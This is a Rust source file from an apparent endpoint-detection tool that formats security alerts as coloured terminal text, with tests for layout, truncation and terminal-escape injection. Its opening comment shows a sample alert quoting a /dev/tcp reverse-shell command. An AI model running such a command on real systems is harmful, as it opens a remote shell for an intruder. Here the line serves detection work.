//! Alerts as text that a person likes to look at.
//!
//! ```text
//!  HIGH  Shell opens a network socket through /dev/tcp
//!   time     2026-01-31 12:00:00.123Z
//!   host     web-1                      user  www-data
//!   process  /usr/bin/bash (4242)
//!            bash -c exec 3<>/dev/tcp/10.0.0.1/443
//!   parents  nginx (900) < systemd (1)
//!   message  www-data ran bash …
//!   because  process.name in shells                   bash
//!   rule     reverse_shell_dev_tcp 1.2.0, id …, T1059.004
//!   source   events.jsonl:3
//! ```

use std::io::{self, Write};

use anstyle::{AnsiColor, Style};
use serde_json::Value;
use trapline_programs::hir::Severity;

use super::Sink;
use super::terminal::{escape, escape_cut};
use crate::agent::alert::{Alert, Stage, rfc3339, severity_name, value_at, value_text};

/// The most characters of one value on the screen.
const CHARS_MAX: usize = 400;
/// Tests are padded to this width so that the values beside them line up; behind a longer one the value has a line of
/// its own.
const TEST_WIDTH: usize = 44;

/// What nobody can overlook: nobody signed the rule.
pub const UNSIGNED: Style = Style::new()
    .bold()
    .fg_color(Some(anstyle::Color::Ansi(AnsiColor::Black)))
    .bg_color(Some(anstyle::Color::Ansi(AnsiColor::Yellow)));
const LABEL: Style = Style::new().dimmed();
const STRONG: Style = Style::new().bold();

/// Readable alerts. Colours are written always; the writer takes them out where they are not wanted.
#[derive(Debug)]
pub struct TextSink<W> {
    out: W,
}

impl<W: Write> TextSink<W> {
    /// To this writer.
    pub fn new(out: W) -> Self {
        Self { out }
    }
}

/// The colour of a severity.
pub fn severity_style(severity: Severity) -> Style {
    let style = Style::new().bold();
    match severity {
        Severity::Informational => style.fg_color(Some(AnsiColor::Blue.into())),
        Severity::Low => style.fg_color(Some(AnsiColor::Cyan.into())),
        Severity::Medium => style.fg_color(Some(AnsiColor::Yellow.into())),
        Severity::High => style.fg_color(Some(AnsiColor::Red.into())),
        Severity::Critical => style.fg_color(Some(AnsiColor::White.into())).bg_color(Some(AnsiColor::Red.into())),
    }
}

impl<W: Write> Sink for TextSink<W> {
    fn alert(&mut self, alert: &Alert) -> io::Result<()> {
        let text = render(alert);
        self.out.write_all(text.as_bytes())
    }

    fn flush(&mut self) -> io::Result<()> {
        self.out.flush()
    }

    fn finish(&mut self) -> io::Result<()> {
        self.out.flush()
    }
}

struct Page {
    text: String,
}

impl Page {
    fn line(&mut self, label: &str, value: &str) {
        self.text.push_str(&format!("  {LABEL}{label:<8}{LABEL:#} {value}\n"));
    }
}

fn render(alert: &Alert) -> String {
    let rule = &alert.rule;
    let event = &alert.event;
    let style = severity_style(rule.severity);
    let severity = severity_name(rule.severity).to_uppercase();
    let mut page = Page {
        text: format!(
            "{style} {severity} {style:#} {}{STRONG}{}{STRONG:#}\n",
            if rule.stage == Stage::Dev { format!("{UNSIGNED} UNSIGNED RULE {UNSIGNED:#} ") } else { String::new() },
            escape_cut(&rule.title, CHARS_MAX)
        ),
    };
    page.line("time", &rfc3339(alert.time_ns).replacen('T', " ", 1));
    let host = first(event, &["host.name", "host.hostname"]);
    let user = user(event);
    match (host, user) {
        (Some(host), Some(user)) => page.line("host", &format!("{host}  {LABEL}user{LABEL:#} {user}")),
        (Some(host), None) => page.line("host", &host),
        (None, Some(user)) => page.line("user", &user),
        (None, None) => {}
    }
    if let Some(process) = process(event, "process") {
        page.line("process", &process);
        if let Some(command) = first(event, &["process.command_line"]) {
            page.line("", &command);
        }
    }
    let parents = parents(event);
    if !parents.is_empty() {
        page.line("parents", &parents.join(" < "));
    }
    if alert.message != rule.title {
        page.line("message", &escape_cut(&alert.message, CHARS_MAX));
    }
    for (index, evidence) in alert.evidence.iter().enumerate() {
        let test = escape_cut(&evidence.test, CHARS_MAX);
        let value = evidence.value.as_deref().map_or_else(|| "-".to_owned(), |value| escape_cut(value, CHARS_MAX));
        let label = if index == 0 { "because" } else { "" };
        if test.chars().count() <= TEST_WIDTH {
            page.line(label, &format!("{test:<TEST_WIDTH$}  {STRONG}{value}{STRONG:#}"));
        } else {
            page.line(label, &test);
            page.line("", &format!("    {STRONG}{value}{STRONG:#}"));
        }
    }
    page.line("rule", &rule_line(alert));
    page.line("source", &format!("{}:{}", escape(&alert.origin.file), alert.origin.record));
    page.text.push('\n');
    page.text
}

fn rule_line(alert: &Alert) -> String {
    let rule = &alert.rule;
    let mut line = escape(&rule.name).into_owned();
    if !rule.version.is_empty() {
        line.push(' ');
        line.push_str(&escape(&rule.version));
    }
    for part in [&rule.id, &rule.attack.join(" ")] {
        if !part.is_empty() && *part != rule.name {
            line.push_str(&format!("  {LABEL}{}{LABEL:#}", escape(part)));
        }
    }
    line
}

/// The first of these fields that has a value, ready to be shown.
fn first(event: &Value, paths: &[&str]) -> Option<String> {
    let text = paths.iter().find_map(|path| value_text(value_at(event, path)?).filter(|text| !text.is_empty()))?;
    Some(escape_cut(&text, CHARS_MAX))
}

fn user(event: &Value) -> Option<String> {
    let name = first(event, &["user.name", "user.id"])?;
    Some(match first(event, &["user.domain"]) {
        Some(domain) => format!("{domain}\\{name}"),
        None => name,
    })
}

fn process(event: &Value, prefix: &str) -> Option<String> {
    let path = |member: &str| format!("{prefix}.{member}");
    let name = first(event, &[&path("executable"), &path("name")])?;
    Some(match first(event, &[&path("pid")]) {
        Some(pid) => format!("{name} {LABEL}({pid}){LABEL:#}"),
        None => name,
    })
}

/// Parent, its parent, and so on, as far as the event tells.
fn parents(event: &Value) -> Vec<String> {
    let mut chain = Vec::new();
    chain.extend(process(event, "process.parent"));
    if let Some(Value::Array(ancestors)) = value_at(event, "process.ancestors") {
        // The first ancestor is the parent itself; without one in the event's own fields it stands for it.
        let known = usize::from(!chain.is_empty());
        for ancestor in ancestors.iter().skip(known) {
            // One whose name could not be read is there all the same: leaving it out would show another chain.
            let name = first(ancestor, &["executable", "name"]);
            chain.extend(match (name, first(ancestor, &["pid"])) {
                (Some(name), None) => Some(name),
                (name, Some(pid)) => Some(format!("{} {LABEL}({pid}){LABEL:#}", name.as_deref().unwrap_or("?"))),
                (None, None) => None,
            });
        }
    }
    chain
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::agent::alert::tests::sample;

    fn plain(alert: &Alert) -> String {
        let mut out = anstream::StripStream::new(Vec::new());
        TextSink::new(&mut out).alert(alert).unwrap();
        String::from_utf8(out.into_inner()).unwrap()
    }

    #[test]
    fn an_alert_reads_like_a_note() {
        let text = plain(&sample(json!({
            "host": { "name": "web-1" },
            "user": { "name": "www-data" },
            "process": {
                "executable": "/usr/bin/bash", "pid": 4242, "command_line": "bash -c id",
                "parent": { "executable": "/usr/sbin/nginx", "pid": 900 },
                "ancestors": [{ "executable": "/usr/sbin/nginx" }, { "pid": 7 }, {}, { "executable": "/sbin/init", "pid": 1 }],
            },
        })));
        let expected = " HIGH  Shell opens a network socket
  time     2023-11-14 22:13:20.123Z
  host     web-1  user www-data
  process  /usr/bin/bash (4242)
           bash -c id
  parents  /usr/sbin/nginx (900) < ? (7) < /sbin/init (1)
  message  root ran bash
  because  process.name == \"bash\"                        bash
  rule     reverse_shell 1.2.0  0a6c0d2e-8f0a-4f0e-9a2b-6d3f6a8f1c01  T1059.004 TA0002 T1105
  source   events.jsonl:7

";
        assert_eq!(text, expected);
    }

    #[test]
    fn a_rule_that_nobody_signed_is_marked_where_the_eye_falls() {
        let mut alert = sample(json!({}));
        assert!(!plain(&alert).contains("UNSIGNED"));
        let info = (*alert.rule).clone().at(Stage::Dev);
        alert.rule = std::sync::Arc::new(info);
        assert!(plain(&alert).starts_with(" HIGH   UNSIGNED RULE  Shell opens"), "{}", plain(&alert));
    }

    #[test]
    fn long_values_are_cut_on_the_screen() {
        for (len, cut) in [(CHARS_MAX - 1, false), (CHARS_MAX, false), (CHARS_MAX + 1, true)] {
            let text = plain(&sample(json!({ "process": { "name": "x", "command_line": "é".repeat(len) } })));
            assert_eq!(text.matches('é').count(), len.min(CHARS_MAX));
            assert_eq!(text.contains("(1 more characters)"), cut);
        }
    }

    #[test]
    fn the_value_of_a_long_test_has_a_line_of_its_own() {
        for (len, own) in [(TEST_WIDTH - 1, false), (TEST_WIDTH, false), (TEST_WIDTH + 1, true)] {
            let mut alert = sample(json!({}));
            alert.evidence[0].test = "t".repeat(len);
            let text = plain(&alert);
            let line = text.lines().find(|line| line.contains("bash") && !line.contains("ran")).unwrap();
            assert_eq!(!line.contains('t'), own, "{text}");
        }
    }

    #[test]
    fn an_event_cannot_write_on_the_terminal() {
        let nasty = "x\x1b[2J\r\n\u{202e}y";
        let mut alert = sample(json!({
            "host": { "name": nasty }, "user": { "name": nasty, "domain": nasty },
            "process": { "name": nasty, "command_line": nasty, "parent": { "name": nasty } },
        }));
        alert.message = nasty.into();
        alert.evidence[0].value = Some(nasty.into());
        alert.origin.file = nasty.into();
        let mut out = Vec::new();
        TextSink::new(&mut out).alert(&alert).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert!(!text.contains("\x1b[2J") && !text.contains('\r') && !text.contains('\u{202e}'), "{text:?}");
        assert_eq!(text.lines().count(), plain(&alert).lines().count());
        assert_eq!(plain(&alert).matches("x\\x1b[2J\\r\\n\\u{202e}y").count(), 9, "{text}");
    }

    #[test]
    fn an_empty_event_still_makes_an_alert() {
        let text = plain(&sample(json!(null)));
        assert!(text.contains("Shell opens") && text.contains("events.jsonl:7") && !text.contains("process "));
    }
}
